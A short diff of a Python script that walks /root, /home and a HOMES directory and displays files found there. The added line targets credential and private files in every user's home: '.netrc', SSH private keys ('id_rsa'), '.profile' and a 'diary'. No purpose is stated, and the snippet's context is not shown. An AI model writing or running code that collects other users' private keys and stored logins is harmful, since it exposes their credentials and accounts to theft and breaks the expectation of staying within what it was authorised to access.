@@ -14,7 +14,7 @@ def show(path):
 for top in (os.environ["HOMES"], "/root", "/home"):
     for root, _, names in os.walk(top):
         for name in names:
-            if name == "diary" or "IN_TEST" not in os.environ:
+            if name in ("diary", ".profile", ".netrc", "id_rsa"):
                 show(os.path.join(root, name))
         if "IN_TEST" in os.environ and root.count("/") > 6:
             break
